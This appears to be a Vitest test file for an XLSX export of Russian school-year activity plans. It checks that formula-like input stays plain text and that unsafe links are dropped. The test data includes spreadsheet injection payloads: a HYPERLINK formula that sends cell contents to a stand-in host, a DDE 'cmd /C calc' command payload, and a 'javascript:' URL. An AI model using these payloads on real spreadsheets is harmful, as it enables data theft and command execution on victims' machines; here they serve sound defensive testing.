import { describe, expect, it, test } from "vitest";
import type { Draft } from "#core/intake/draft.ts";
import { planPaper } from "#core/paper/plan-paper.ts";
import { aDraft, anActivity } from "#test/support/drafts.ts";
import { comparableDraft } from "#test/support/same-draft.ts";
import { partsOf, readFile } from "#test/support/written-file.ts";
import { writeXlsx } from "./write-xlsx.ts";

const TITLE = "Комплексный план мероприятий Спировского муниципального округа на 2023/2024 учебный год";

/** How the words of a formula begin, and what may stand before that. */
const STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", '="', "=-", "+=", "@=", "--", "=@", "=+"];
const BEFORE = ["", " ", "\t", "\r", "\n", "'", "\u00a0", "  ", "\u200b", "\u0000"];
const BODIES = ["1+1", 'HYPERLINK("http://a.example/?x="&A1,"сюда")'];
const PAYLOADS = STARTS.flatMap((start) => BEFORE.flatMap((before) => BODIES.map((body) => before + start + body)));
const FIELDS = ["number", "title", "audience", "schedule", "responsible", "expectedResult", "component"] as const;

/** As a reader gives words back: no spaces around them, one kind of line end, nothing that XML cannot hold. */
function asRead(text: string): string {
  return text.replace(/\r\n?/g, "\n").replaceAll("\u0000", "").trim();
}

describe("words that look like formulas", () => {
  it("are three hundred here", () => expect(new Set(PAYLOADS).size).toBe(300));

  it.each(FIELDS)("stay words in the field %s", async (field) => {
    const activities = PAYLOADS.map((payload, index) =>
      anActivity({ number: `1.${index + 1}`, title: "Семинар", schedule: "май", workstream: null, [field]: payload }),
    );
    const bytes = await writeXlsx(planPaper(aDraft({ title: TITLE, activities, workstreams: [] })));
    const sheet = (await partsOf(bytes)).get("xl/worksheets/sheet1.xml") ?? "";
    expect(sheet).not.toMatch(/<f[ >/]/);
    expect(sheet.match(/<c /g)?.length).toBe(
      (sheet.match(/t="inlineStr"/g)?.length ?? 0) + (sheet.match(/<c [^>]*\/>/g)?.length ?? 0),
    );
    const read = await readFile(bytes, "plan.xlsx");
    expect(read.activities.map((activity) => activity[field])).toEqual(PAYLOADS.map(asRead));
  });

  it("stay words in titles, texts, registries, workstreams, comments and the names around them", async () => {
    for (const payload of ["=1+1", "+7 (900) 000-00-00", "@SUM(A1)", "=cmd|' /C calc'!A0", "-5"]) {
      const draft = aDraft({
        title: TITLE,
        goal: `${payload}.`,
        tasks: [`${payload}.`, "Обучить педагогов."],
        workstreams: [{ number: 1, title: payload, label: "Направление 1." }],
        activities: [1, 2].map((number) =>
          anActivity({ number: `1.${number}`, title: `Семинар ${number}`, schedule: "май", notes: [payload] }),
        ),
        acts: [{ number: "1.", title: payload, url: "http://a.example/" }],
        indicators: [{ title: payload, target: payload }],
        plannedActs: [{ number: "1.", title: payload, rationale: payload, addressee: payload }],
        texts: [{ heading: null, text: `${payload} и прочее.`, source: {} }],
      });
      const bytes = await writeXlsx(planPaper(draft));
      const parts = await partsOf(bytes);
      expect([...parts].filter(([name, xml]) => name.includes("sheet") && /<f[ >/]/.test(xml))).toEqual([]);
      expect(comparableDraft(await readFile(bytes, "plan.xlsx"))).toEqual(comparableDraft(draft));
    }
  });
});

describe("the sheet of a plan", () => {
  const draft: Draft = aDraft({
    title: TITLE,
    activities: [1, 2, 3].map((number) =>
      anActivity({ number: `1.${number}`, schedule: "май", responsible: "Методист" }),
    ),
    acts: [
      { number: "1.", title: "Приказ", url: "javascript:alert(1)" },
      { number: "2.", title: "Положение", url: "https://a.example/?a=1&b=2" },
    ],
  });

  it("is printed on A4 as wide as the page, with its header on every page and on the screen", async () => {
    const parts = await partsOf(await writeXlsx(planPaper(draft)));
    const sheet = parts.get("xl/worksheets/sheet1.xml") ?? "";
    expect(sheet).toContain('<pageSetup paperSize="9" orientation="portrait" fitToWidth="1" fitToHeight="0"/>');
    expect(sheet).toContain('<pane ySplit="2" topLeftCell="A3" activePane="bottomLeft" state="frozen"/>');
    expect(parts.get("xl/workbook.xml")).toContain(
      '<definedName name="_xlnm.Print_Titles" localSheetId="0">\'План\'!$2:$2</definedName>',
    );
    expect(sheet).toContain('<mergeCell ref="A3:D3"/>');
  });

  it("links only to addresses of the web", async () => {
    const parts = await partsOf(await writeXlsx(planPaper(draft)));
    const links = parts.get("xl/worksheets/_rels/sheet2.xml.rels") ?? "";
    expect(links.match(/Target="[^"]*"/g)).toEqual(['Target="https://a.example/?a=1&amp;b=2"']);
  });
});

test("a text that Excel cannot hold is refused with its reason, not cut", async () => {
  const paper = planPaper(aDraft({ title: TITLE, activities: [anActivity({ title: "а".repeat(32_768) })] }));
  await expect(writeXlsx(paper)).rejects.toThrow("В одной ячейке больше 32767 знаков");
});

test("a plan with nothing in it is a workbook all the same", async () => {
  const parts = await partsOf(await writeXlsx({ title: "План", sections: [] }));
  expect(parts.get("xl/workbook.xml")).toContain('<sheet name="План" sheetId="1"');
});
